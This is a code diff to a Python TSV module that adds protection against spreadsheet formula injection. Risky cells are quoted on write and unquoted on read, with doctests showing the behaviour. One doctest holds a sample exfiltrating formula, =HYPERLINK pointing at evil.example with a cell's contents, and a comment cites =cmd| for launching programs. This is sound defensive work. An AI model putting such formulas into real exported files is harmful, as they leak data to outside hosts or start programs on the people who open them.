@@ -4,6 +4,11 @@ Writes go to a temporary file in the destination folder, are flushed to disk and
 renamed over the target (``os.replace`` is atomic on POSIX), so an interrupted run leaves
 either the old file or the new one, never a partial one.  TSV reading keeps every cell as
 text and reports problems with file and line numbers.
+
+People open these tables in Excel or LibreOffice, so a cell that would start a formula is
+written with a leading single quote (OWASP's advice against CSV/formula injection) and read
+back without it: :func:`spreadsheet_cell` and :func:`read_cell` are the one rule, used by
+:func:`write_tsv`, :func:`parse_tsv` and the desk's sheet editor alike.
 """
 
 from __future__ import annotations
@@ -64,7 +69,8 @@ def write_tsv(
     """Write dict rows as a tab-separated table with exactly ``columns``, atomically.
 
     ``None`` becomes an empty cell; tabs and newlines inside values are replaced by spaces
-    so that every record stays on one line.
+    so that every record stays on one line; a value that would start a spreadsheet formula
+    is neutralised (:func:`spreadsheet_cell`), and :func:`parse_tsv` gives it back as it was.
     """
     with atomic_open(path, "w") as handle:
         writer = csv.writer(handle, delimiter="\t", lineterminator="\n", quoting=csv.QUOTE_MINIMAL)
@@ -82,9 +88,72 @@ def _cell(value: object) -> str:
         return ""
     else:
         text = str(value)
-    if "\t" not in text and "\n" not in text and "\r" not in text:
-        return text  # the common case, without four string copies (large tables)
-    return text.replace("\t", " ").replace("\r\n", " ").replace("\n", " ").replace("\r", " ")
+    if "\t" in text or "\n" in text or "\r" in text:
+        text = text.replace("\t", " ").replace("\r\n", " ").replace("\n", " ").replace("\r", " ")
+    if text and (text[0] in _RISKY_FIRST or text[0].isspace()):
+        return spreadsheet_cell(text)
+    return text  # the common case, without a regular expression (large tables)
+
+
+# ----------------------------------------------------------------- formula injection
+#
+# OWASP (CSV Injection) and ASVS 1.2.10: a cell whose first character is =, +, -, @, a tab
+# or a carriage return may be run as a formula by Excel, LibreOffice or Google Sheets
+# (=HYPERLINK(...) sends other cells to a web site; =cmd|... starts programs).  Neutralise by
+# prefixing a single quote.  Full-width ＝ ＋ － ＠ are included (spreadsheets in East Asian
+# locales may take them as the ASCII ones), and so is whitespace before any of them.
+#
+# To read back exactly what was written, the quote itself is escaped: a value that is already
+# some quotes followed by a formula start gets one more quote, and the reader strips exactly
+# one quote from a cell that is one or more quotes followed by a formula start.  Every other
+# cell (a title in quotes, 'Mad cow' disease) is written and read as it is.  A plain number
+# (-1, -0.35, +2, -1.5e-3) is data, not a formula: it stays a number for the spreadsheet.
+
+#: Characters that may start a formula (ASCII and full-width), after optional whitespace.
+FORMULA_STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"
+_FORMULA_START = f"(?:[\\t\\r\\n]|\\s*[{re.escape(FORMULA_STARTS)}])"
+_NEEDS_QUOTE = re.compile(f"'*{_FORMULA_START}")
+_QUOTED = re.compile(f"'+{_FORMULA_START}")
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
+_RISKY_FIRST = frozenset(FORMULA_STARTS + "'")
+
+
+def spreadsheet_cell(value: object) -> str:
+    """The text of a cell as written to a sheet people may open in a spreadsheet program.
+
+    ``None`` and NaN are empty; a value that would start a formula gets a leading ``'`` (and a
+    value that is quotes before a formula start gets one more, so that :func:`read_cell`
+    gives back every value exactly); a plain number stays a number. Tabs and newlines are
+    left to the caller (:func:`write_tsv` and the desk make them spaces).
+
+    >>> print(spreadsheet_cell('=HYPERLINK("http://evil.example/?x="&A1,"x")'))
+    '=HYPERLINK("http://evil.example/?x="&A1,"x")
+    >>> [spreadsheet_cell(v) for v in ("-0.35", -1, "+44 20 7946 0958", "@mention", "'=1")]
+    ['-0.35', '-1', "'+44 20 7946 0958", "'@mention", "''=1"]
+    >>> [spreadsheet_cell(v) for v in ("'Mad cow' disease", "co-trimoxazole", None)]
+    ["'Mad cow' disease", 'co-trimoxazole', '']
+    """
+    if value is None or (isinstance(value, float) and value != value):
+        return ""
+    text = value if type(value) is str else str(value)
+    if _NEEDS_QUOTE.match(text) and not _PLAIN_NUMBER.fullmatch(text):
+        return "'" + text
+    return text
+
+
+def read_cell(text: str) -> str:
+    """The value a cell of a sheet stands for: :func:`spreadsheet_cell` undone.
+
+    Strips exactly one leading ``'`` from a cell that is quotes followed by a formula start;
+    leaves everything else as it is (also a formula start typed by hand without a quote,
+    which is what the person typed).
+
+    >>> [read_cell(t) for t in ("'=1+1", "''=1", "=1+1", "'Mad cow' disease", "-1")]
+    ['=1+1', "'=1", '=1+1', "'Mad cow' disease", '-1']
+    """
+    if text[:1] == "'" and _QUOTED.match(text):
+        return text[1:]
+    return text
 
 
 #: How to save a sheet so that it is read, in words the common spreadsheet programs use.
@@ -203,6 +272,7 @@ def parse_tsv(
             )
         if len(cells) < len(header):
             cells = [*cells, *[""] * (len(header) - len(cells))]
+        cells = [read_cell(cell) if cell[:1] == "'" else cell for cell in cells]
         row = dict(zip(header, cells, strict=True))
         row["__line__"] = str(reader.line_num)
         rows.append(row)
